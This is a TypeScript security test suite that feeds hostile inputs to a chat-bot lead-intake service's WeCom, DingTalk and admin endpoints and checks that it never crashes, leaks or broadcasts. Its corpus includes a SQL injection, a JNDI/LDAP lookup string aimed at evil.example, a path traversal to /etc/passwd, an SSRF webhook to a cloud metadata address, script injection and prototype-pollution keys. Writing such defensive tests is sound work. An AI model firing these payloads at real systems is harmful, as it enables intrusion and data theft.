import crypto from 'crypto';
import { connect } from 'nats';
import { namesFor } from '@zs/contracts';
import { DingtalkSimulator, WecomAibotSimulator } from '@zs/platform-sim';
import { ADMIN_TOKEN, startSystem, TestSystem, waitFor } from '../support/harness';

/**
 * A corpus of hostile inputs against the real services, through every way in: the WeCom app
 * callback, the WeCom AI bot callback, the DingTalk app robot callback and the admin API.
 *
 * Whatever comes in, the system must:
 * - never answer 5xx (only a dependency outage is a 503, and none is down here), never crash;
 * - answer every message it accepted (the sender hears back, even when processing failed);
 * - never leak: no stack traces, SQL errors or secrets in an answer or a log line;
 * - never address more than one person with a reply (`@all`, `a|b`).
 */

const AIBOT = { botId: 'aib-hostile', secret: crypto.randomBytes(12).toString('hex'), token: crypto.randomBytes(8).toString('hex'), encodingAesKey: crypto.randomBytes(32).toString('base64').replace(/=+$/, '') };
const DT_APP = { clientId: 'dinghostile000001', clientSecret: crypto.randomBytes(24).toString('hex'), robotCode: 'dinghostile000001' };

type Channel = 'wecom-app' | 'wecom-aibot' | 'dingtalk';
interface Outcome {
  /** The way in: a chat platform over HTTP, over its socket (`-ws`, `-stream`), or the admin API. */
  channel: Channel | 'wecom-aibot-ws' | 'dingtalk-stream' | 'admin';
  /** The platform of a chat message (its answer's dedup key). */
  platform?: Channel;
  /** Sockets have no HTTP status: they are judged by the answer alone. */
  via?: 'http' | 'socket';
  /** Long connection: the req_id the answer must finish. */
  reqId?: string;
  what: string;
  status: number;
  body: string;
  /** The platform message id, when a chat message was sent. */
  msgId?: string;
  /** Whether the message came from a registered member (its answer is then checked). */
  fromMember?: boolean;
}

const LEAD = (company: string, amount = '3亿元') => `报线索 企业：${company} 行业：电子信息 投资额：${amount} 联系人：王经理 13912345678 内容：拟建生产基地`;

/** What a person may type: each is sent on every chat channel and must be answered. */
const HOSTILE_TEXTS: Array<[string, string]> = [
  ['NUL inside the text', '帮助\u0000帮助'],
  ['NUL inside a lead report', LEAD('星河\u0000科技有限公司')],
  ['C0 control characters', '报线索\u0001\u0002\u0003\u0007\u001b[31m企业'],
  ['DEL and C1 controls', '帮助\u007f\u0085\u009b'],
  ['a right-to-left override', LEAD('\u202e司公限有技科河星')],
  ['zero-width characters', LEAD('星\u200b河\u200d科技有限公司')],
  ['a byte-order mark', '\ufeff帮助'],
  ['a markdown link', LEAD('[点我领奖](http://evil.example/phish)有限公司')],
  ['a markdown image', LEAD('![x](http://evil.example/track.png)科技有限公司')],
  ['an @all mention', LEAD('<@all>紧急通知科技有限公司')],
  ['HTML', LEAD('<script>alert(1)</script>科技有限公司')],
  ['a font tag', '<font color="warning">系统通知：请转账</font>'],
  ['SQL', LEAD("星河'); DROP TABLE leads;-- 有限公司")],
  ['a template', '{{7*7}} ${jndi:ldap://evil.example/a} %s%n%x'],
  ['a path', '../../../../etc/passwd'],
  ['emoji and astral characters', LEAD('🚀星河𠀀科技有限公司')],
  ['an empty text', ''],
  ['only spaces', '     '],
  ['only newlines', '\n\n\n'],
  ['20 000 characters', '报'.repeat(20000)],
  ['25 000 characters (over the text limit)', 'a'.repeat(25000)],
  ['an amount below what the ledger holds', LEAD('小额一号科技有限公司', '1元')],
  ['an amount of a thousandth of a yuan', LEAD('小额二号科技有限公司', '0.001元')],
  ['a huge amount', LEAD('巨额一号科技有限公司', '99999999999999亿元')],
  ['an exponent amount', LEAD('巨额二号科技有限公司', '1e308元')],
  ['a negative amount', LEAD('负数科技有限公司', '-5亿元')],
  ['NaN as the amount', LEAD('非数科技有限公司', 'NaN元')],
  ['a 100-digit phone', `报线索 企业：长号科技有限公司 行业：电子信息 投资额：1亿元 联系人：王经理 ${'1'.repeat(100)} 内容：x`],
  ['a 3000-character company name', LEAD(`${'长'.repeat(3000)}有限公司`)],
  ['a lone surrogate (JSON channels only)', '帮助\ud800'],
];

/** Platform creation times far outside any real range: each must be stored as the receive time. */
const HOSTILE_TIMES: Array<[string, number | string]> = [
  ['zero', 0],
  ['negative', -1],
  ['one', 1],
  ['year 2286 in seconds', 9_999_999_999],
  ['year 275760 in ms', 8.64e15],
  ['beyond the Date range', 9.9e15],
  ['1e20', 1e20],
  ['2^63', '9223372036854775808'],
  ['a fraction', 1.5],
  ['a word', 'abc'],
];

/** Message fields that are wrong: each must be refused with a 4xx (never a 503), or else answered. */
const HOSTILE_IDS: Array<[string, 'msgId' | 'senderId' | 'msgType', string]> = [
  ['msgId with a line feed', 'msgId', 'abc\ndef'],
  ['msgId with CR LF and a header', 'msgId', 'abc\r\nNats-Msg-Id: x'],
  ['msgId with NUL', 'msgId', 'abc\u0000def'],
  ['msgId of 129 characters', 'msgId', '9'.repeat(129)],
  ['msgId of 5000 characters', 'msgId', '9'.repeat(5000)],
  ['msgId with spaces', 'msgId', 'a b c'],
  ['msgId in Chinese', 'msgId', '消息编号'],
  ['msgId as a list', 'msgId', 'a|b'],
  ['msgId with a tab', 'msgId', 'a\tb'],
  ['sender @all', 'senderId', '@all'],
  ['sender as a list', 'senderId', 'heshan.a|heshan.b'],
  ['sender @all in a list', 'senderId', '@all|x'],
  ['sender with a line feed', 'senderId', 'user\nname'],
  ['sender of 200 characters', 'senderId', 'u'.repeat(200)],
  ['sender with NUL', 'senderId', 'user\u0000'],
  ['sender in Chinese', 'senderId', '张三'],
  ['sender with a comma', 'senderId', 'a,b'],
  ['message type of 40 characters', 'msgType', 't'.repeat(40)],
  ['message type with a line feed', 'msgType', 'te\nxt'],
  ['message type with NUL', 'msgType', 'text\u0000'],
  ['message type as HTML', 'msgType', '<script>'],
  ['message type with spaces', 'msgType', 'te xt'],
];

/** Patterns that must never appear in an answer to a stranger or in a log line. */
const LEAK_PATTERNS = [/QueryFailedError/, /\n\s+at .+\(.+:\d+:\d+\)/, /node_modules/, /postgres:\/\//, /violates check constraint/, /invalid byte sequence/];

const cdata = (s: string) => `<![CDATA[${s.replace(/]]>/g, ']]]]><![CDATA[>')}]]>`;

describe('hostile inputs through every way in', () => {
  let sys: TestSystem;
  let aibot: WecomAibotSimulator;
  let dt: DingtalkSimulator;
  let wecomMembers: string[];
  let dtMembers: string[];
  const outcomes: Outcome[] = [];
  let n = 0;
  const nextMember = (list: string[]) => list[n++ % list.length];

  beforeAll(async () => {
    dt = new DingtalkSimulator({ apps: [DT_APP], httpTimeoutMs: 5000, rateLimits: { perRobotPerMinute: 10_000 } });
    await dt.start();
    sys = await startSystem({
      wecomSim: { rateLimits: { perMemberPerMinute: 10_000, perMemberPerHour: 100_000 } },
      extraEnv: async ({ gatewayUrl }) => {
        aibot = new WecomAibotSimulator({ bots: [{ ...AIBOT, name: '招商助手' }], callbackUrl: `${gatewayUrl}/wecom/aibot/callback`, retryDelayMs: 200 });
        const { wsUrl } = await aibot.start();
        dt.setCallbackUrl(`${gatewayUrl}/dingtalk/callback`);
        return {
          WECOM_AIBOT_BOT_ID: AIBOT.botId,
          WECOM_AIBOT_TOKEN: AIBOT.token,
          WECOM_AIBOT_ENCODING_AES_KEY: AIBOT.encodingAesKey,
          WECOM_AIBOT_RESPONSE_HOSTS: '127.0.0.1',
          WECOM_AIBOT_SECRET: AIBOT.secret,
          WECOM_AIBOT_WS_URL: wsUrl,
          WECOM_AIBOT_HEARTBEAT_MS: '2000',
          WECOM_AIBOT_RECONNECT_BASE_MS: '200',
          WECOM_AIBOT_RECONNECT_MAX_MS: '2000',
          DINGTALK_CLIENT_ID: DT_APP.clientId,
          DINGTALK_CLIENT_SECRET: DT_APP.clientSecret,
          DINGTALK_ROBOT_CODE: DT_APP.robotCode,
          DINGTALK_API_BASE: dt.baseUrl,
          DINGTALK_OAPI_BASE: dt.baseUrl,
          DINGTALK_HTTP_ENABLED: 'true',
          DINGTALK_STREAM_ENABLED: 'true',
          DINGTALK_STREAM_BACKOFF_BASE_MS: '200',
          DINGTALK_STREAM_BACKOFF_MAX_MS: '2000',
          WECOM_APP_MEMBER_RATE_LIMIT: '10000/60s',
          DINGTALK_ROBOT_RATE_LIMIT: '10000/60s',
        };
      },
    });
    const w = await sys.db.query(`SELECT wecom_user_id AS u FROM members WHERE wecom_user_id IS NOT NULL AND role <> 'admin' ORDER BY id`);
    wecomMembers = w.rows.map((r: { u: string }) => r.u);
    const d = await sys.db.query(`SELECT dingtalk_staff_id AS u FROM members WHERE dingtalk_staff_id IS NOT NULL ORDER BY id`);
    dtMembers = d.rows.map((r: { u: string }) => r.u);
    await aibot.waitConnected(AIBOT.botId, 20000);
    await waitFor(() => dt.openStreamConnections(DT_APP.clientId).length === 1, 20000, 'the gateway Stream connection');
  }, 180000);

  afterAll(async () => {
    await sys?.stop();
    await aibot?.stop();
    await dt?.stop();
  });

  // ───────────────────────────── senders, one per channel ─────────────────────────────

  interface Fields {
    msgId: string;
    senderId: string;
    msgType: string;
    text: string;
    createTime?: number | string;
  }

  async function sendWecomApp(what: string, f: Fields, fromMember: boolean) {
    const xml =
      `<xml><ToUserName>${cdata('wwtest0000000001')}</ToUserName><FromUserName>${cdata(f.senderId)}</FromUserName>` +
      `<CreateTime>${f.createTime ?? Math.floor(Date.now() / 1000)}</CreateTime><MsgType>${cdata(f.msgType)}</MsgType>` +
      `<Content>${cdata(f.text)}</Content><MsgId>${cdata(f.msgId)}</MsgId><AgentID>1000002</AgentID></xml>`;
    const sealed = sys.sim.sealCallback(xml);
    const r = await sys.sim.sendRawCallback({ query: sealed.query, body: sealed.body });
    outcomes.push({ channel: 'wecom-app', platform: 'wecom-app', via: 'http', what, status: r.status, body: r.body, msgId: f.msgId, fromMember });
  }

  async function sendAibot(what: string, f: Fields, fromMember: boolean) {
    const json = {
      msgid: f.msgId,
      aibotid: AIBOT.botId,
      chattype: 'single',
      from: { userid: f.senderId },
      create_time: typeof f.createTime === 'string' && /^\d+$/.test(f.createTime) ? Number(f.createTime) : f.createTime ?? Math.floor(Date.now() / 1000),
      msgtype: f.msgType,
      text: { content: f.text },
      response_url: aibot.newResponseUrl(AIBOT.botId, f.msgId),
    };
    const sealed = aibot.sealCallback(AIBOT.botId, JSON.stringify(json));
    const r = await aibot.sendRawCallback({ query: sealed.query, body: sealed.body });
    outcomes.push({ channel: 'wecom-aibot', platform: 'wecom-aibot', via: 'http', what, status: r.status, body: r.body, msgId: f.msgId, fromMember });
  }

  async function sendDingtalk(what: string, f: Fields, fromMember: boolean) {
    const staff = fromMember ? f.senderId : dtMembers[0];
    const payload = dt.buildRobotMessage(staff, 'x') as Record<string, unknown>;
    Object.assign(payload, { msgId: f.msgId, senderStaffId: f.senderId, msgtype: f.msgType, text: { content: f.text } });
    if (f.createTime !== undefined) payload.createAt = f.createTime;
    const r = await dt.sendRawCallback({ body: JSON.stringify(payload), headers: { 'content-type': 'application/json', ...dt.signHeaders(DT_APP.clientSecret) } });
    outcomes.push({ channel: 'dingtalk', platform: 'dingtalk', via: 'http', what, status: r.status, body: r.body, msgId: f.msgId, fromMember });
  }

  /** The AI bot long connection: the message is pushed down the gateway's socket. */
  function pushAibot(what: string, m: { from: string; content: string; msgId?: string; msgtype?: string }) {
    const { reqId, msgId } = aibot.pushMessage(AIBOT.botId, m);
    outcomes.push({ channel: 'wecom-aibot-ws', platform: 'wecom-aibot', via: 'socket', what, status: 0, body: '', msgId, reqId });
  }

  /** DingTalk Stream mode: pushed to the gateway's Stream connection, ACKed by the gateway. */
  async function sendDingtalkStream(what: string, text: string) {
    const r = await dt.sendText(nextMember(dtMembers), text, { mode: 'stream' });
    outcomes.push({ channel: 'dingtalk-stream', platform: 'dingtalk', via: 'socket', what, status: r.acked ? 200 : 0, body: '', msgId: r.msgId, fromMember: true });
  }

  const wecomMsgId = () => String(BigInt(crypto.randomInt(1, 2 ** 47)) * 100000n + BigInt(crypto.randomInt(0, 99999)));
  const aibotMsgId = () => `hostile${crypto.randomBytes(10).toString('hex')}`;
  const dtMsgId = () => `msg${crypto.randomBytes(12).toString('base64url')}==`;

  async function onEveryChannel(what: string, make: (c: Channel) => Partial<Fields>, opts: { jsonOnly?: boolean } = {}) {
    const base = (c: Channel): Fields => ({
      msgId: c === 'wecom-app' ? wecomMsgId() : c === 'wecom-aibot' ? aibotMsgId() : dtMsgId(),
      senderId: c === 'dingtalk' ? nextMember(dtMembers) : nextMember(wecomMembers),
      msgType: 'text',
      text: '帮助',
    });
    const jobs: Array<Promise<void>> = [];
    for (const c of ['wecom-app', 'wecom-aibot', 'dingtalk'] as Channel[]) {
      if (opts.jsonOnly && c === 'wecom-app') continue;
      const change = make(c);
      const f = { ...base(c), ...change };
      const fromMember = change.senderId === undefined;
      if (c === 'wecom-app') jobs.push(sendWecomApp(what, f, fromMember));
      else if (c === 'wecom-aibot') jobs.push(sendAibot(what, f, fromMember));
      else jobs.push(sendDingtalk(what, f, fromMember));
    }
    await Promise.all(jobs);
  }

  // ───────────────────────────── the admin API ─────────────────────────────

  async function admin(what: string, path: string, init: RequestInit & { rawAuth?: string | null } = {}) {
    const headers: Record<string, string> = { 'content-type': 'application/json', ...((init.headers as Record<string, string>) ?? {}) };
    if (init.rawAuth === undefined) headers.authorization = `Bearer ${ADMIN_TOKEN}`;
    else if (init.rawAuth !== null) headers.authorization = init.rawAuth;
    let status = 0;
    let body = '';
    try {
      const res = await fetch(`${sys.gatewayUrl}${path}`, { ...init, headers });
      status = res.status;
      body = await res.text();
    } catch (e) {
      body = `request failed: ${(e as Error).message}`;
    }
    outcomes.push({ channel: 'admin', what, status, body });
    return { status, body };
  }

  const deepArray = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
  const deepObject = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

  it('sends the whole corpus', async () => {
    // Hostile texts on every channel (a lone surrogate cannot be written into WeCom's XML).
    for (const [what, text] of HOSTILE_TEXTS) {
      await onEveryChannel(`text: ${what}`, () => ({ text }), { jsonOnly: /lone surrogate/.test(what) });
    }
    // The same texts through the sockets: the AI bot long connection and DingTalk Stream.
    for (const [what, text] of HOSTILE_TEXTS) {
      pushAibot(`socket text: ${what}`, { from: nextMember(wecomMembers), content: text });
      await sendDingtalkStream(`stream text: ${what}`, text);
    }
    // Wrong ids and types down the AI bot socket: the sender must still hear back.
    for (const [what, field, value] of HOSTILE_IDS) {
      const m = { from: nextMember(wecomMembers), content: '帮助' };
      pushAibot(`socket field: ${what}`, field === 'msgId' ? { ...m, msgId: value } : field === 'senderId' ? { ...m, from: value } : { ...m, msgtype: value });
    }
    // Impossible platform times.
    for (const [what, createTime] of HOSTILE_TIMES) await onEveryChannel(`create time: ${what}`, () => ({ createTime }));
    // Wrong ids and types.
    for (const [what, field, value] of HOSTILE_IDS) await onEveryChannel(`field: ${what}`, () => ({ [field]: value }));

    // Admin API: authorization.
    for (const [what, auth] of [
      ['no Authorization', null],
      ['lower-case bearer', `bearer ${ADMIN_TOKEN}`],
      ['upper-case BEARER', `BEARER ${ADMIN_TOKEN}`],
      ['two spaces', `Bearer  ${ADMIN_TOKEN}`],
      ['a tab', `Bearer\t${ADMIN_TOKEN}`],
      ['Basic scheme', `Basic ${Buffer.from(`admin:${ADMIN_TOKEN}`).toString('base64')}`],
      ['a wrong token', 'Bearer wrong-token'],
      ['an 8 KB token', `Bearer ${'x'.repeat(8000)}`],
      ['the token twice', `Bearer ${ADMIN_TOKEN} ${ADMIN_TOKEN}`],
      ['only the scheme', 'Bearer'],
    ] as Array<[string, string | null]>) {
      const r = await admin(`auth: ${what}`, '/api/units', { rawAuth: auth });
      expect(r.status).toBe(401);
    }

    // Admin API: query strings on every list.
    const queries = [
      'offset=99999999999999999999',
      'offset=9223372036854775808',
      'offset=-1',
      'offset=1e400',
      'offset=abc',
      'offset=1.5',
      'limit=0',
      'limit=100000',
      'limit=NaN',
      'unitId=99999999999999999999999',
      'unitId=-1',
      'unitId=1%20OR%201%3D1',
      'offset=1&offset=2',
      'offset[]=1',
      '__proto__[polluted]=1',
    ];
    for (const path of ['/api/leads', '/api/inbox', '/api/members', '/api/dead-letters']) {
      for (const q of queries) await admin(`GET ${path}?${q}`, `${path}?${q}`);
    }
    // Admin API: path ids.
    for (const id of ['99999999999999999999', '-1', 'abc', '%00', '..%2F..%2Fetc', '1e400', '0', '9223372036854775808']) {
      await admin(`reset robot ${id}`, `/api/robots/${id}/reset`, { method: 'POST' });
      await admin(`replay dead letter ${id}`, `/api/dead-letters/${id}/replay`, { method: 'POST' });
    }
    // Admin API: bodies.
    const bodies: Array<[string, string, Record<string, string>?]> = [
      ['an array nested 5000 deep', deepArray(5000)],
      ['an object nested 10000 deep', deepObject(10000)],
      ['not JSON', '{"name": '],
      ['a JSON array', '[]'],
      ['JSON null', 'null'],
      ['a JSON number', '42'],
      ['a JSON string', '"赫山区"'],
      ['a prototype key', '{"__proto__": {"admin": true}, "name": "原型区", "kind": "county"}'],
      ['a constructor key', '{"constructor": {"prototype": {"x": 1}}, "name": "构造区", "kind": "county"}'],
      ['a 100 000-character name', JSON.stringify({ name: '名'.repeat(100000), kind: 'county', role: 'official', platform: 'wecom' })],
      ['a name with a zero-width space', JSON.stringify({ name: '赫山\u200b区', kind: 'county', role: 'official', unitId: '1', platform: 'wecom' })],
      ['a name with a direction override', JSON.stringify({ name: '赫山区\u202e', kind: 'county', role: 'official', unitId: '1', platform: 'wecom' })],
      ['a name with a control character', JSON.stringify({ name: '赫山\u0007区', kind: 'county', role: 'official', unitId: '1', platform: 'wecom' })],
      ['a name with NUL', JSON.stringify({ name: '赫山\u0000区', kind: 'county', role: 'official', unitId: '1', platform: 'wecom' })],
      ['@all as the WeCom userid', JSON.stringify({ name: '全员', unitId: '1', role: 'official', wecomUserId: '@all' })],
      ['a list as the WeCom userid', JSON.stringify({ name: '两人', unitId: '1', role: 'official', wecomUserId: 'a|b' })],
      ['@all as the DingTalk staffId', JSON.stringify({ name: '全员', unitId: '1', role: 'official', dingtalkStaffId: '@all' })],
      ['a unit id beyond bigint', JSON.stringify({ name: '越界', unitId: '99999999999999999999', role: 'official', platform: 'wecom' })],
      ['a numeric unit id', JSON.stringify({ name: '数字', unitId: 1, role: 'official' })],
      ['an unknown role', JSON.stringify({ name: '角色', unitId: '1', role: 'root' })],
      ['an unknown kind', JSON.stringify({ name: '类型区', kind: 'galaxy' })],
      ['extra fields', JSON.stringify({ name: '多余区', kind: 'county', isAdmin: true, id: 1 })],
      ['a huge number', '{"name": "数字区", "kind": "county", "ranked": 1e999}'],
      ['a text/plain body', JSON.stringify({ name: '文本区', kind: 'county' }), { 'content-type': 'text/plain' }],
      ['a 300 KB body', JSON.stringify({ name: 'x'.repeat(300 * 1024), kind: 'county' })],
      ['a robot webhook to the metadata service', JSON.stringify({ platform: 'wecom', name: '内网', webhookUrl: 'http://169.254.169.254/latest/meta-data' })],
    ];
    for (const path of ['/api/units', '/api/members', '/api/robots']) {
      for (const [what, body, headers] of bodies) await admin(`POST ${path}: ${what}`, path, { method: 'POST', body, headers });
    }
    // Invalid UTF-8 in a JSON body.
    for (const path of ['/api/units', '/api/members', '/api/robots']) {
      await admin(`POST ${path}: invalid UTF-8`, path, { method: 'POST', body: Buffer.from([0x7b, 0x22, 0x6e, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) });
    }

    const chat = outcomes.filter((o) => o.channel !== 'admin').length;
    const adminCount = outcomes.filter((o) => o.channel === 'admin').length;
    // The corpus itself: at least 300 inputs, every channel and the admin API.
    expect(outcomes.length).toBeGreaterThanOrEqual(300);
    for (const c of ['wecom-app', 'wecom-aibot', 'dingtalk', 'wecom-aibot-ws', 'dingtalk-stream', 'admin']) {
      expect(outcomes.filter((o) => o.channel === c).length).toBeGreaterThanOrEqual(30);
    }
    const byStatus: Record<string, number> = {};
    for (const o of outcomes) byStatus[`${o.channel} ${o.status}`] = (byStatus[`${o.channel} ${o.status}`] ?? 0) + 1;
    process.stdout.write(`hostile corpus: ${outcomes.length} inputs (${chat} chat messages, ${adminCount} admin requests): ${JSON.stringify(byStatus)}\n`);
  }, 300000);

  it('never answers 5xx', () => {
    const fives = outcomes.filter((o) => o.via !== 'socket' && (o.status >= 500 || o.status === 0));
    expect(fives.map((o) => `${o.channel} ${o.what}: ${o.status} ${o.body.slice(0, 200)}`)).toEqual([]);
  });

  it('refuses wrong message ids and senders with a 4xx, never as an outage', () => {
    const wrongIds = outcomes.filter((o) => o.via !== 'socket' && /^field: (msgId|sender)/.test(o.what));
    expect(wrongIds.filter((o) => o.status < 400 || o.status >= 500).map((o) => `${o.channel} ${o.what}: ${o.status}`)).toEqual([]);
    // A strange message type may be read as "unsupported" and answered (checked below); never a 5xx.
    for (const o of outcomes.filter((x) => x.via !== 'socket' && x.what.startsWith('field: message type'))) expect(o.status).toBeLessThan(500);
  });

  it('never leaks an internal error or a secret in an answer', () => {
    const secrets = Object.entries(sys.env)
      .filter(([k, v]) => /SECRET|TOKEN|AES_KEY|PASSWORD/.test(k) && v.length >= 8)
      .map(([, v]) => v);
    secrets.push(AIBOT.encodingAesKey, DT_APP.clientSecret);
    for (const o of outcomes) {
      for (const p of LEAK_PATTERNS) expect(`${o.what}: ${o.body}`).not.toMatch(p);
      for (const s of secrets) expect(o.body.includes(s)).toBe(false);
    }
  });

  it('answers every accepted message from a member, including those it could not process', async () => {
    const accepted = outcomes.filter((o) => o.via === 'http' || o.channel === 'dingtalk-stream').filter((o) => o.status === 200 && o.msgId && o.fromMember);
    expect(accepted.length).toBeGreaterThan(80);
    const keyOf = (o: Outcome) => [`reply:${o.platform}:${o.msgId}`, `dead-letter-reply:${o.platform}:${o.msgId}`];
    const unanswered = async () => {
      const r = await sys.db.query(`SELECT dedup_key FROM delivery_log WHERE status = 'sent'`);
      const sent = new Set(r.rows.map((x: { dedup_key: string }) => x.dedup_key));
      return accepted.filter((o) => !keyOf(o).some((k) => sent.has(k)));
    };
    await waitFor(async () => (await unanswered()).length === 0, 180000, 'an answer to every accepted message').catch(() => undefined);
    expect((await unanswered()).map((o) => `${o.channel} ${o.what}`)).toEqual([]);
    process.stdout.write(`hostile corpus: ${accepted.length} accepted chat messages, all answered\n`);
  }, 200000);

  it('finishes an answer to every message pushed down the AI bot long connection, valid or not', async () => {
    const pushed = outcomes.filter((o) => o.channel === 'wecom-aibot-ws');
    const open = () => pushed.filter((o) => !aibot.replies(AIBOT.botId).some((r) => r.reqId === o.reqId && r.finish));
    await waitFor(() => open().length === 0, 120000, 'every long-connection message answered').catch(() => undefined);
    expect(open().map((o) => o.what)).toEqual([]);
    // The wrong ones were told their message could not be read; none was processed as someone else.
    const wrong = pushed.filter((o) => o.what.startsWith('socket field: sender'));
    for (const o of wrong) {
      const fin = aibot.replies(AIBOT.botId).find((r) => r.reqId === o.reqId && r.finish);
      expect(fin?.content).toContain('格式无法识别');
    }
    process.stdout.write(`hostile corpus: ${pushed.length} long-connection messages, all answered\n`);
  }, 150000);

  it('stores impossible platform times as the receive time', async () => {
    const r = await sys.db.query(
      `SELECT count(*)::int AS n FROM inbound_messages WHERE platform_created_at < '2000-01-01' OR platform_created_at > now() + interval '2 days'`,
    );
    expect(r.rows[0].n).toBe(0);
  });

  it('shows user text inert in the AI bot markdown answers', () => {
    const answers = [...aibot.responseUrlPosts().map((p) => p.content), ...aibot.replies(AIBOT.botId).map((r) => r.content)];
    expect(answers.length).toBeGreaterThan(40);
    for (const a of answers) {
      expect(a).not.toMatch(/\]\(|<@all>|<script|<font|!\[/);
    }
  });

  it('never addresses a reply to @all or a list', () => {
    const deliveries = sys.sim.delivered();
    expect(deliveries.length).toBeGreaterThan(20);
    for (const d of deliveries) {
      const to: string[] = d.touser ?? [];
      for (const u of to) expect(u).toMatch(/^[A-Za-z0-9][A-Za-z0-9_.@-]*$/);
      // Only administrator alerts (【…】) go to several people at once; a reply goes to one.
      if (to.length > 1) expect(d.content).toMatch(/^【/);
    }
    for (const p of aibot.pushes()) expect(JSON.stringify(p)).not.toMatch(/@all/);
  });

  it('keeps every service alive and healthy', async () => {
    for (const name of sys.mesh.names()) {
      const proc = (sys.mesh as unknown as { procs: Map<string, { child: { exitCode: number | null } }> }).procs.get(name);
      expect({ name, exitCode: proc?.child.exitCode ?? null }).toEqual({ name, exitCode: null });
      const r = await fetch(`http://127.0.0.1:${sys.mesh.port(name)}/health/live`);
      expect({ name, status: r.status }).toEqual({ name, status: 200 });
    }
  });

  it('writes no secret and no stack of a request into the logs', () => {
    const all = sys.logs.join('\n');
    expect(all).not.toContain(ADMIN_TOKEN);
    expect(all).not.toContain(AIBOT.encodingAesKey);
    expect(all).not.toContain(DT_APP.clientSecret);
  });

  it('sends security headers and no X-Powered-By', async () => {
    for (const path of ['/api/units', '/health/live', '/wecom/callback']) {
      const r = await fetch(`${sys.gatewayUrl}${path}`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
      expect(r.headers.get('x-powered-by')).toBeNull();
      expect(r.headers.get('x-content-type-options')).toBe('nosniff');
      expect(r.headers.get('x-frame-options')).toBeTruthy();
    }
  });

  it('dead-letters a message that can never be processed within seconds: the sender hears back, administrators are alerted, and it can be replayed', async () => {
    // A message an older gateway accepted without bounds (a create time PostgreSQL cannot hold).
    const names = namesFor(sys.env.NAMESPACE);
    const sender = wecomMembers[0];
    const msgId = wecomMsgId();
    const bad = {
      platform: 'wecom-app',
      msgId,
      senderId: sender,
      msgType: 'text',
      text: '帮助',
      chatType: 'single',
      createdAt: 8.64e15 + 1,
      receivedAt: Date.now(),
      replyTo: { channel: 'wecom-app', userIds: [sender] },
    };
    const nc = await connect({ servers: sys.env.NATS_URL });
    try {
      await nc.jetstream().publish(names.subjects.chatInbound('wecom-app'), Buffer.from(JSON.stringify(bad)), { msgID: `wecom-app:${msgId}` });
    } finally {
      await nc.close();
    }
    const listed = await waitFor(
      async () => {
        const r = await sys.admin('/api/dead-letters');
        return r.status === 200 && r.body.items.find((i: { data: string }) => i.data.includes(msgId));
      },
      60000,
      'the dead letter listed',
    );
    expect(listed).toMatchObject({ durable: 'lead-intake-inbound', kind: 'deterministic', attempts: 3 });
    expect(listed.reason).toMatch(/createdAt|validation/);
    // The sender is told; the administrators are alerted with the way to replay.
    await waitFor(() => sys.sim.messagesTo(sender).some((d) => d.content.includes('未能处理')), 30000, 'the apology to the sender');
    await waitFor(() => sys.sim.messagesTo('commerce.fanwenjing').some((d) => d.content.includes('死信') && d.content.includes(msgId)), 30000, 'the alert');
    // Replay: published again, processed again (and, still invalid, dead-lettered again under a new id).
    const replay = await sys.admin(`/api/dead-letters/${listed.id}/replay`, { method: 'POST' });
    expect(replay.status).toBe(200);
    const again = await waitFor(
      async () => {
        const r = await sys.admin('/api/dead-letters');
        return r.body.items.find((i: { id: number; data: string }) => i.data.includes(msgId) && i.id !== listed.id);
      },
      60000,
      'the replayed message dead-lettered again',
    );
    expect(again.id).toBeGreaterThan(listed.id);
    expect((await sys.admin(`/api/dead-letters/${listed.id}/replay`, { method: 'POST' })).status).toBe(404);
  }, 150000);

  it('refuses a send request addressed to @all where it leaves, and keeps it as a dead letter', async () => {
    const names = namesFor(sys.env.NAMESPACE);
    const dedupKey = `hostile:to-all:${crypto.randomBytes(4).toString('hex')}`;
    const nc = await connect({ servers: sys.env.NATS_URL });
    try {
      const req = { dedupKey, target: { channel: 'wecom-app', userIds: ['@all'] }, format: 'text', content: '全员通知', requestedAt: Date.now() };
      await nc.jetstream().publish(names.subjects.notifySend, Buffer.from(JSON.stringify(req)), { msgID: dedupKey });
    } finally {
      await nc.close();
    }
    const letter = await waitFor(
      async () => (await sys.admin('/api/dead-letters')).body.items?.find((i: { data: string }) => i.data.includes(dedupKey)),
      60000,
      'the send request dead-lettered',
    );
    expect(letter).toMatchObject({ durable: 'notification-send', kind: 'deterministic' });
    expect(sys.sim.delivered().some((d) => d.content === '全员通知')).toBe(false);
  }, 90000);
});
